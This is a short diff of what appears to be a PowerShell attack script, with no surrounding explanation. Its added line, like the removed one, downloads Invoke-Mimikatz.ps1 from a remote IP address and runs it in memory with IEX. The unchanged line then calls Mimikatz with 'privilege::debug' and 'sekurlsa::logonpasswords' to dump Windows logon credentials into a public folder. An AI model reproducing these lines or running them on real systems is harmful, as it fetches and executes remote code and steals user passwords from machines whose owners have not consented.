@@ -1,3 +1,3 @@
-# init 4090 v2
-IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/Invoke-Mimikatz.ps1')
+# config 0227 v2
+IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/Invoke-Mimikatz.ps1')
 Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
